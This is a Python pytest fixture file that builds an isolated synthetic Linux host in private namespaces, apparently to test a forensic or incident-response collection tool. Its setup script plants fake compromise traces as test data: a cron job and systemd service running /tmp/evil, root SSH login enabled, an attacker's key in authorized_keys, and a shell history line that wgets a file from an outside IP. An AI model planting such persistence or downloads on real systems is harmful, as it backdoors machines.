"""A host of our own making: private pid, mount, net and uts namespaces over synthetic logs, homes and settings.

No test captures processes or homes that are not its own, and no environment of the machine reaches a capture.
"""

from __future__ import annotations

import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent

_SETUP = r"""
set -e
keep() {{ mkdir -p "$KEEP/$1"; mount --rbind "$2" "$KEEP/$1"; }}
KEEP=/run/.keep; mount -t tmpfs tmpfs /run
keep python {prefix}; keep repo {repo}; keep work {work}
for place in /root /home /var/log /var/tmp /etc /srv /opt /tmp; do mount -t tmpfs tmpfs $place; done
for pair in "python {prefix}" "repo {repo}" "work {work}"; do
  set -- $pair; mkdir -p "$2"; mount --rbind "$KEEP/$1" "$2"
done
umount -R -l "$KEEP"/*; chmod 1777 /tmp /var/tmp
printf 'root:x:0:0:root:/root:/bin/bash\nsato:x:1000:1000:Sato:/home/sato:/bin/bash\n' >/etc/passwd
printf 'root:x:0:\nsato:x:1000:\n' >/etc/group
printf 'root:$6$salt$HASHOFROOT:20000:0:99999:7:::\nsato:$6$salt$HASHOFSATO:20001:0:99999:7:::\n' >/etc/shadow
chmod 600 /etc/shadow
printf '127.0.0.1 localhost web01\n' >/etc/hosts; printf 'nameserver 192.0.2.1\n' >/etc/resolv.conf
printf 'PRETTY_NAME="Synthetic Linux 1"\nID=synthetic\n' >/etc/os-release
printf '0123456789abcdef0123456789abcdef\n' >/etc/machine-id
mkdir -p /etc/cron.d /etc/systemd/system /etc/ssh /home/sato/.ssh /root/.ssh /var/log/audit /run/log
printf '* * * * * root /tmp/evil\n' >/etc/cron.d/evil
printf '[Service]\nExecStart=/tmp/evil\n' >/etc/systemd/system/evil.service
printf 'PermitRootLogin yes\n' >/etc/ssh/sshd_config
printf 'ssh-ed25519 AAAAC3Nza evil@attacker\n' >/root/.ssh/authorized_keys
printf 'ls -la\nwget http://198.51.100.7/x\n' >/home/sato/.bash_history
for n in $(seq 1 200); do echo "Nov 23 05:00:$n web01 sshd[$n]: Accepted publickey for sato"; done >/var/log/auth.log
printf 'type=LOGIN msg=audit(1:1): pid=1\n' >/var/log/audit/audit.log
hostname web01
ip link set lo up 2>/dev/null || true
cd {work}
set +e
"""

# For captures of whole file systems: the bulk of /usr and /var adds minutes and nothing to see.
SMALL = """
for d in /usr/share /usr/src /usr/include /usr/lib/gcc /usr/lib/modules /var/lib /var/cache; do
  [ ! -d $d ] || mount -t tmpfs tmpfs $d
done
"""


@dataclass(frozen=True)
class Host:
    """Runs shell scripts on a fresh synthetic host; `hozen` is on its PATH."""

    work: Path

    def command(self, script: str, *, setup: str = "") -> list[str]:
        """Return the argument list that runs `script` after the host and `setup` were made.

        The text travels in a file, so that the command lines of the synthetic host hold nothing but names.
        """
        text = _SETUP.format(prefix=sys.base_prefix, repo=ROOT, work=self.work)
        file = self.work / "host.sh"
        file.write_text(f"{text}\n{setup}\n{script}\n", encoding="utf-8")
        isolate = ["unshare", "-pfmnu", "--mount-proc", "--kill-child"]
        if os.geteuid() != 0:
            isolate.insert(1, "-Ur")
        return [
            *[
                "env",
                "-i",
                f"PATH={BIN}:/usr/sbin:/usr/bin:/sbin:/bin",
                "HOME=/root",
                "LANG=C.UTF-8",
            ],
            *[*isolate, "bash", str(file)],
        ]

    def run(
        self, script: str, *, setup: str = "", timeout: float = 120, **more: Any
    ) -> subprocess.CompletedProcess[str]:
        """Run `script`; the result is the caller's to judge."""
        return subprocess.run(
            self.command(script, setup=setup),
            capture_output=True,
            text=True,
            errors="backslashreplace",
            timeout=timeout,
            check=False,
            stdin=subprocess.DEVNULL,
            **more,
        )


CASE = (
    "--case C-1 --operator 'Sato Hanako' --organisation 'Example KK' --contact sato@example.jp "
    "--authority 'CISO, oral' --purpose 'test' --owner 'Example KK'"
)


@pytest.fixture
def case_options() -> str:
    """The identification fields as options."""
    return CASE


@pytest.fixture
def host(tmp_path: Path) -> Host:
    """A synthetic host whose directory `usb` is the responder's medium."""
    probe = subprocess.run(
        ["unshare", "-pfmnu", "--mount-proc", "true"], capture_output=True, check=False
    )
    if probe.returncode != 0:
        pytest.skip("namespaces of our own cannot be made here")
    (tmp_path / "usb").mkdir()
    return Host(tmp_path)
